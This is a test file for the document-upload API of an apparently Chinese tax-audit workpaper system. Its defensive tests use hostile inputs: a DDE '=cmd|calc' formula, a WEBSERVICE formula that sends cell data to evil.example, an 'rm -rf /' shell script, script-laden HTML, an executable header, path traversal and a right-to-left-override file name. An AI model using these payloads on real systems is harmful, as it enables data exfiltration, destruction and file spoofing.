import { zipSync } from 'fflate'
import { writeXlsx } from 'hucre/xlsx'
import { beforeAll, describe, expect, test } from 'vitest'
import { docFile } from '#contract/doc-files.ts'
import { enterprise } from '#contract/enterprise.ts'
import { file } from '#contract/file.ts'
import { paperTemplate } from '#contract/paper-template.ts'
import { project } from '#contract/project.ts'
import { type Caller, type TestServer, testServer } from '#server/kernel/testing.ts'
import { testCreditCode } from '../project/testing-credit-code.ts'

let server: TestServer
let zxs: Caller
let colleague: Caller
let projectId = ''
const under = (paper: string, of = projectId) => `${of}_${paper}`
beforeAll(async () => {
  server = await testServer()
  zxs = await server.as('zxs', '张审计')
  colleague = await server.as('zxs', '李审计')
  projectId = await projectOf(zxs, 1)
})

async function projectOf(who: Caller, no: number): Promise<string> {
  const client = await who(enterprise.save, { enterpriseName: `客户${no}`, creditCode: testCreditCode(no) })
  const [template] = await who(docFile.systemTemplates, {})
  const draft = { enterpriseId: client.id, projectName: '汇算清缴', year: '2025', category: 1 }
  return (await who(project.save, { ...draft, workpaperTemplateId: template?.id ?? '' })).id
}
const book = async (rows: (string | number | null)[][]) =>
  Buffer.from(
    await writeXlsx({
      sheets: [
        { name: '一', rows },
        { name: '二', rows: [['第二张']] },
      ],
    }),
  )
const addSheet = (content: Buffer | string, name = '自定义.xlsx', who = zxs) =>
  who.upload(docFile.addSheet, { parentFileId: under('C15') }, { name, content })
const attach = (content: Buffer | string, name: string, who = zxs) =>
  who.upload(docFile.addAttachments, { parentFileId: under('C15'), customType: '合同' }, { name, content })

describe('the lists of working papers', () => {
  test('name the system’s template, the firm’s published ones, and those of no other firm', async () => {
    expect(await zxs(docFile.libraries, { isSystem: '1' })).toMatchObject([{ isSystem: 1 }])
    expect(await zxs(docFile.systemTemplates, {})).toMatchObject([{ templateType: 'system', taxProjectCategory: 1 }])
    expect(await zxs(docFile.systemTemplates, { taxProjectCategory: 2 })).toEqual([])
    const admin = await server.as('admin')
    const { id } = await admin(paperTemplate.fromSystem, { name: '本所底稿', category: 1, papers: ['C15'] })
    expect(await zxs(docFile.firmTemplates, {})).toEqual([])
    await admin(paperTemplate.publish, { id, rev: 1 })
    expect(await zxs(docFile.firmTemplates, {})).toMatchObject([{ id, templateType: 'firm', originalName: '本所底稿' }])
    expect(await zxs(docFile.firmTemplates, { firmId: '00000000-0000-7000-8000-000000000000' })).toEqual([])
    const all = await zxs(docFile.templates, {})
    expect(all.map(({ templateType }) => templateType)).toEqual(['system', 'firm'])
  })

  test('name the papers of a project, each with what hangs under it', async () => {
    const files = await zxs(docFile.projectFiles, { firmProjectId: projectId })
    expect(files.find(({ paperId }) => paperId === 'C15')).toMatchObject({ id: under('C15'), generated: false })
    expect(await zxs(docFile.projectFiles, { firmProjectId: projectId, taxProjectCategory: 9 })).toEqual([])
    const whole = await zxs(docFile.projectWorkingPaper, { projectId })
    expect(whole).toMatchObject({ templateType: 'system', version: 0, generationId: '' })
    expect(whole.papers.length).toBe(files.length)
  })
})

describe('a sheet added under a paper', () => {
  test('is read sheet by sheet, and listed with its paper', async () => {
    const added = await addSheet(
      await book([
        ['项目', '金额'],
        ['差旅费', 1234.5],
      ]),
    )
    expect(added).toMatchObject({ paperId: 'C15', originalName: '自定义.xlsx', notes: [] })
    const sheets = await zxs(docFile.customSheets, { parentFileId: under('C15') })
    expect(sheets.map(({ sheetIndex, sheetName }) => [sheetIndex, sheetName])).toEqual([
      [0, '一'],
      [1, '二'],
    ])
    const second = await zxs(docFile.customSheet, { parentFileId: added.id, sheetIndex: 1 })
    expect(second.sheet.cells).toMatchObject([{ r: 0, c: 0, v: '第二张' }])
    await expect(zxs(docFile.customSheet, { parentFileId: added.id, sheetIndex: 2 })).rejects.toMatchObject({
      code: 400,
    })
    await zxs(docFile.removeFile, { fileId: added.id })
    expect(await zxs(docFile.sheetFiles, { parentFileId: under('C15') })).toEqual([])
  })

  test('may be a new one; a paper that is none takes nothing', async () => {
    const form = { parentFileId: under('B04'), sheetName: '补充说明' }
    const body = { name: 'x', content: await book([['a']]) }
    const { id } = await zxs.upload(docFile.addSheet, form, { ...body, name: '来源.xlsx' })
    expect(await zxs(docFile.sheetFiles, { parentFileId: under('B04') })).toMatchObject([
      { id, originalName: '补充说明.xlsx' },
    ])
    await expect(zxs.upload(docFile.addSheet, { parentFileId: under('Q99') }, body)).rejects.toMatchObject({
      code: 404,
    })
    await expect(zxs.upload(docFile.addSheet, { parentFileId: '../etc' }, body)).rejects.toMatchObject({ code: 400 })
  })

  test('is refused when it is broken; formulas that call out are disarmed and reported', async () => {
    await expect(addSheet('PK\u0003\u0004坏')).rejects.toMatchObject({ code: 400 })
    const hostile = await writeXlsx({
      sheets: [
        {
          name: '外联',
          rows: [['=cmd|calc', null]],
          cells: new Map([['0,1', { formula: 'WEBSERVICE("http://evil.example/"&A1)' }]]),
        },
      ],
    })
    const { id, notes } = await addSheet(Buffer.from(hostile))
    expect(notes).toMatchObject([{ kind: 'externalFormula', cell: 'B1' }])
    const { sheet } = await zxs(docFile.customSheet, { parentFileId: id })
    expect(sheet.cells.every(({ f }) => f === undefined)).toBe(true)
  })

  test('with macros is read without them, and said so', async () => {
    const plain = await book([['a']])
    const { unzipSync } = await import('fflate')
    const parts = { ...unzipSync(plain), 'xl/vbaProject.bin': new Uint8Array([1, 2, 3]) }
    const { notes } = await addSheet(Buffer.from(zipSync(parts)), '宏.xlsm')
    expect(notes).toMatchObject([{ kind: 'macro' }])
  })
})

describe('an attachment', () => {
  test('is listed by its type and comes down under its name, without a path', async () => {
    const [added] = await attach('%PDF-1.7 合同', '../../合同\u202Efdp.pdf')
    expect(added).toMatchObject({ customType: '合同', originalName: '合同fdp.pdf' })
    expect(await zxs(docFile.attachments, { parentFileId: under('C15'), customType: '合同' })).toHaveLength(1)
    expect(await zxs(docFile.attachments, { parentFileId: under('C15'), customType: '发票' })).toEqual([])
    const { body } = await zxs.download(file.download, { id: added?.id ?? '' })
    expect(body.toString()).toBe('%PDF-1.7 合同')
  })

  test('is no program, script or web page, whatever it is called', async () => {
    for (const [content, name] of [
      ['MZ\u0090\u0000', '合同.pdf'],
      ['#!/bin/sh\nrm -rf /', '说明.txt'],
      ['<!DOCTYPE html><script>alert(1)</script>', '发票.jpg'],
      ['echo', '运行.bat'],
      ['', '空.pdf'],
    ] as const)
      await expect(attach(content, name)).rejects.toMatchObject({ code: 400 })
  })
})

describe('who', () => {
  test('does not reach the project sees, adds and removes nothing under its papers', async () => {
    const [added] = await attach('%PDF-1.7', '凭证.pdf')
    const fileId = added?.id ?? ''
    const stranger = await server.as('admin', '别家', await server.tenant('别家事务所'))
    for (const who of [colleague, stranger, await server.as('student')]) {
      const parentFileId = under('C15')
      await expect(who(docFile.projectWorkingPaper, { projectId })).rejects.toMatchObject({ code: 404 })
      await expect(who(docFile.projectFiles, { firmProjectId: projectId })).rejects.toMatchObject({ code: 404 })
      await expect(who(docFile.attachments, { parentFileId })).rejects.toMatchObject({ code: 404 })
      await expect(who(docFile.customSheets, { parentFileId })).rejects.toMatchObject({ code: 404 })
      await expect(who(docFile.removeFile, { fileId })).rejects.toMatchObject({ code: 404 })
      await expect(who(docFile.removeFinancialFiles, { projectId })).rejects.toMatchObject({ code: 404 })
      await expect(who.download(file.download, { id: fileId })).rejects.toMatchObject({ status: 404 })
    }
    await expect(attach('%PDF-1.7', '晚到.pdf', colleague)).rejects.toMatchObject({ code: 404 })
  })

  test('is a teacher reads them and changes nothing; a student works under his own project only as far as his role goes', async () => {
    const teacher = await server.as('teacher')
    expect((await teacher(docFile.projectWorkingPaper, { projectId })).projectId).toBe(projectId)
    await expect(attach('%PDF-1.7', '教师.pdf', teacher)).rejects.toMatchObject({ code: 403 })
    const student = await server.as('student')
    await expect(attach('%PDF-1.7', '学生.pdf', student)).rejects.toMatchObject({ code: 403 })
  })

  test('sends a file past these calls is refused', async () => {
    const form = { purpose: 'customAttachment', ownerId: under('C15') }
    await expect(zxs.upload(file.upload, form, { name: 'a.exe', content: 'MZ' })).rejects.toMatchObject({ code: 404 })
  })
})

test('financial files that no ledger holds are removed; the answer names what stays', async () => {
  const own = await projectOf(zxs, 2)
  await zxs.upload(file.upload, { purpose: 'financial', ownerId: own }, { name: '余额表.csv', content: '科目,余额' })
  expect(await zxs(docFile.removeFinancialFiles, { projectId: own })).toEqual({ removed: 1, kept: [] })
  expect(await zxs(project.files, { projectId: own })).toEqual([])
})
